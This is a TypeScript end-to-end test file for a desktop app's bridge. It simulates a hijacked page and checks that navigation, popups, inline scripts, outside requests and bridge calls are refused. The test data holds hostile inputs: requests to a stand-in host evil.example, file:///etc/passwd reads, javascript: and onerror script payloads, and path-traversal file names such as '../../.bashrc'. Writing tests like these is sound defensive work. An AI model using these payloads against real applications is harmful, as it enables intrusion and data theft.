import { PASSWORD } from '@rsm/server/testing';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Desktop } from '../host/desktop.ts';
import { CALL_BINDING } from '../host/preload-script.ts';
import { signUpByClicking } from '../scene/door-flow.ts';
import { openScene, type Scene } from '../scene/scene.ts';

/*
 * A page that was taken over, as far as a script in it could go. What the parts say to each hostile value is in their unit tests;
 * this shows that the running program asks them.
 */
const BOOKING_ID = '019a0000-0000-7000-8000-000000000000';

let scene: Scene;
let desktop: Desktop;
let start: string;

beforeAll(async () => {
  scene = await openScene();
  desktop = await scene.start();
  await signUpByClicking(desktop.page, { name: 'Taken Over', email: 'taken@desktop.example', password: PASSWORD });
  start = desktop.page.url();
});

afterAll(async () => {
  await scene?.close();
});

/** Tries to leave, and comes back once the program has answered a call made after it. */
async function tryTo(script: string): Promise<void> {
  await desktop.page.evaluate(script);
  await desktop.page.evaluate(async () => window.rsm?.app.updateState());
}

describe('navigation', () => {
  it.each([
    ['another origin', 'https://evil.example/'],
    ['our name before an @', 'https://rsm-app.test@evil.example/'],
    ['a longer host', 'https://rsm-app.test.evil.example/'],
    ['a file', 'file:///etc/passwd'],
    ['a data address', 'data:text/html,<script>alert(1)</script>'],
    ['the internals of the browser', 'chrome://settings'],
  ])('to %s leaves the page where it is', async (_name, url) => {
    await tryTo(`location.href = ${JSON.stringify(url)}; undefined`);
    expect(desktop.page.url()).toBe(start);
  });

  it('of a link to the web goes to the person’s browser, once', async () => {
    await tryTo(`location.href = 'https://docs.example/help'; undefined`);
    await expect.poll(async () => desktop.person.openedInBrowser()).toContain('https://docs.example/help');
    expect(desktop.page.url()).toBe(start);
  });

  it('of a form that posts elsewhere is stopped by the policy', async () => {
    await tryTo(`
      const form = document.createElement('form');
      form.method = 'post'; form.action = 'https://evil.example/post';
      document.body.append(form); form.submit(); form.remove(); undefined`);
    expect(desktop.page.url()).toBe(start);
    expect(await desktop.person.openedInBrowser()).not.toContain('https://evil.example/post');
  });
});

describe('a second window', () => {
  it.each([
    ['https', 'https://market.example/terms', true],
    ['http of the network', 'http://192.0.2.1/', false],
    ['a script', 'javascript:alert(1)', false],
    ['a program of the system', 'ms-settings:', false],
    ['a file', 'file:///etc/passwd', false],
    ['nothing', '', false],
  ])('for %s never opens', async (_name, url, opensBrowser) => {
    const before = (await desktop.person.openedInBrowser()).length;
    await tryTo(`window.open(${JSON.stringify(url)}); undefined`);
    const opened = async () => (await desktop.person.openedInBrowser()).slice(before);
    if (opensBrowser) await expect.poll(opened).toEqual([url]);
    expect(await opened()).toEqual(opensBrowser ? [url] : []);
    await expect.poll(() => desktop.page.context().pages()).toHaveLength(1);
  });
});

describe('scripts and frames', () => {
  it('inline scripts, event attributes and made-up code do not run', async () => {
    await desktop.page.evaluate(`setTimeout('window.ranTimer = true', 0); undefined`);
    const ran = await desktop.page.evaluate(async () => {
      const script = document.createElement('script');
      script.textContent = 'window.ranInline = true';
      document.body.append(script);
      const image = document.createElement('div');
      image.innerHTML = '<img src="data:," onerror="window.ranAttribute = true">';
      document.body.append(image);
      // Loading a picture takes longer than what was asked for before it.
      await new Promise((resolve) => {
        image.firstElementChild?.addEventListener('error', resolve);
      });
      return ['ranInline', 'ranAttribute', 'ranTimer'].filter((name) => name in window);
    });
    expect(ran).toEqual([]);
  });

  it('no other server is reached, whatever the way', async () => {
    const outcomes = await desktop.page.evaluate(async () => {
      const refused = async (attempt: () => Promise<unknown>) =>
        attempt().then(
          () => 'reached',
          () => 'refused',
        );
      const loads = async (element: HTMLImageElement | HTMLScriptElement, src: string) =>
        new Promise((resolve, reject) => {
          element.addEventListener('load', resolve);
          element.addEventListener('error', reject);
          element.src = src;
          document.body.append(element);
        });
      return Promise.all([
        refused(async () => fetch('https://evil.example/')),
        refused(async () => loads(new Image(), 'https://evil.example/pixel.png')),
        refused(async () => loads(document.createElement('script'), 'https://evil.example/x.js')),
        refused(async () => Promise.resolve(new Worker('data:,1'))),
      ]);
    });
    expect(outcomes.slice(0, 3)).toEqual(['refused', 'refused', 'refused']);
  });

  it('a frame has no bridge, and what it calls is refused', async () => {
    const answer = await desktop.page.evaluate(async (binding) => {
      const frame = document.createElement('iframe');
      document.body.append(frame);
      const inside = frame.contentWindow;
      if (inside === null) return 'no frame';
      const hasBridge = 'rsm' in inside;
      const call: unknown = Reflect.get(inside, binding);
      const said: unknown =
        typeof call === 'function'
          ? await Reflect.apply(call, inside, [{ channel: 'rsm:session.refresh', input: undefined }])
          : { ok: false, error: { code: 'call_refused' } };
      frame.remove();
      return { hasBridge, said };
    }, CALL_BINDING);
    expect(answer).toMatchObject({ hasBridge: false, said: { ok: false, error: { code: 'call_refused' } } });
  });
});

describe('calls of the page', () => {
  it.each([
    [
      'terminal.open',
      'bookingId',
      `window.rsm.terminal.open({ bookingId: '../../etc', size: { cols: 80, rows: 24 } })`,
    ],
    [
      'terminal.open',
      'size.cols',
      `window.rsm.terminal.open({ bookingId: '${BOOKING_ID}', size: { cols: 1e9, rows: 24 } })`,
    ],
    [
      'forwards.open',
      'remotePort',
      `window.rsm.forwards.open({ bookingId: '${BOOKING_ID}', remotePort: 0, localPort: null })`,
    ],
    ['files.saveText', 'suggestedName', `window.rsm.files.saveText({ suggestedName: '../../.bashrc', text: '' })`],
    ['files.saveBinary', 'base64', `window.rsm.files.saveBinary({ suggestedName: 'a.pdf', base64: '<script>' })`],
    ['keys.create', 'name', `window.rsm.keys.create({ name: '../id', place: 'ssh_folder' })`],
    ['keys.remove', 'fingerprint', `window.rsm.keys.remove({ fingerprint: '*' })`],
    ['server.choose', 'url', `window.rsm.server.choose({ url: 'http://evil.example' })`],
    ['session.signIn', 'password', `window.rsm.session.signIn({ email: 'a@b.example', password: 12 })`],
  ])('%s with a wrong %s names the field and does nothing', async (_channel, field, script) => {
    expect(await desktop.page.evaluate(script)).toMatchObject({ ok: false, error: { field } });
  });

  it('only web addresses are opened outside', async () => {
    const before = await desktop.person.openedInBrowser();
    const answer = await desktop.page.evaluate(async () => window.rsm?.app.openExternal({ url: 'file:///etc/passwd' }));
    expect(answer).toMatchObject({ ok: false });
    expect(await desktop.person.openedInBrowser()).toEqual(before);
  });

  it('the long-lived secret of the session is nowhere in the page', async () => {
    const kept = await desktop.page.evaluate(async () => {
      const databases = await indexedDB.databases();
      return JSON.stringify([Object.entries(localStorage), Object.entries(sessionStorage), document.cookie, databases]);
    });
    expect(kept).not.toMatch(/secret|refresh/i);
    expect(Object.keys((await desktop.page.evaluate(async () => window.rsm?.session.refresh() ?? null)) ?? {})).toEqual(
      ['ok', 'value'],
    );
  });
});
